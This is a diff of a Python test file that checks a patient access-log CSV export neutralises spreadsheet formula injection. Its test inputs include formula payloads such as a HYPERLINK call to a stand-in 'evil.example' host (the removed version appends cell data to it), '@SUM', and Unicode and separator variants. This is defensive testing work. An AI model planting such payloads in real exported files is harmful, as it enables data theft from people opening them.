@@ -128,30 +128,61 @@ def test_asking_for_the_head_alone_takes_nothing_along(api, alice):
 
 
 @pytest.mark.parametrize(
-    "text",
+    ("text", "shown"),
     [
-        '=HYPERLINK("https://evil.example/?"&A1)',
-        "+1+1",
-        "-2+3",
-        "@SUM(1,1)",
-        "\t=1+1",
-        "\r=1+1",
-        "\n=1+1",
-        "\tin a cell of its own",
-        "\rin a cell of its own",
-        "  =1+1",
-        "\uff1d1+1",
+        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1,1)", "'@SUM(1,1)"),
+        ("\t=1+1", "'\t'=1+1"),
+        ("\r=1+1", "'\r'=1+1"),
+        ("\n=1+1", "'\n'=1+1"),
+        ("\tin a cell of its own", "'\tin a cell of its own"),
+        ("\rin a cell of its own", "'\rin a cell of its own"),
+        ("  =1+1", "  '=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\u22121+1", "'\u22121+1"),
+        ("=-1", "'=-1"),
+        ("\u200b=1+1", "\u200b'=1+1"),
     ],
 )
-def test_a_cell_that_a_spreadsheet_would_run_is_text(api, alice, text):
+def test_a_cell_that_a_spreadsheet_would_run_is_text(api, alice, text, shown):
     AccessEntryFactory(patient_id=alice.pk, actor_name=text, user_agent=text)
 
     row = table(api("alice").get(DOWNLOAD, {"action": OPENED}))[0]
 
-    assert (row["actor_name"], row["origin_user_agent"]) == (f"'{text}", f"'{text}")
+    assert (row["actor_name"], row["origin_user_agent"]) == (shown, shown)
 
 
-@pytest.mark.parametrize("text", ["O'Neil", "Ann-Marie", "a=b", "1+1", "", "'"])
+SEPARATORS = [*";,|\t\n\r :/", "\r\n", "\uff1b", "\uff0c", "\uff5c", "\u3000", "\u2028"]
+SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
+
+
+@pytest.mark.parametrize("separator", SEPARATORS, ids=ascii)
+@pytest.mark.parametrize("between", ["", " ", '"', '""', ' " ', "\u00a0"], ids=ascii)
+def test_no_cell_begins_with_a_formula_whatever_separates(
+    api, alice, separator, between
+):
+    """As a spreadsheet reads the file that takes something else for a separator."""
+    texts = [f"Bob{separator}{between}{sign}1+1{separator}" for sign in SIGNS]
+    for text in texts:
+        AccessEntryFactory(patient_id=alice.pk, actor_name=text, user_agent=text)
+
+    file = api("alice").get(DOWNLOAD, {"action": OPENED}).getvalue().decode()
+
+    assert file.count("'") == 2 * len(texts)
+    for line_of_file in file.splitlines():
+        for cell in line_of_file.split(separator):
+            assert not cell.strip(' "\u00a0').startswith(tuple(SIGNS))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("O'Neil", "Ann-Marie", "a=b", "1+1", "", "'", "ada@example.org"),
+        "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
+    ],
+)
 def test_other_cells_stay_as_they_are(text):
     assert harmless(text) == text
 
@@ -163,7 +194,7 @@ def test_quotes_commas_and_line_breaks_make_no_new_cells(api, alice):
     rows = table(api("alice").get(DOWNLOAD, {"action": OPENED}))
 
     assert [(row["actor_name"], row["origin_user_agent"]) for row in rows] == [
-        (name, agent)
+        (name, agent.replace("=", "'="))
     ]
     assert rows[0]["outcome"] == "ALLOWED"
 
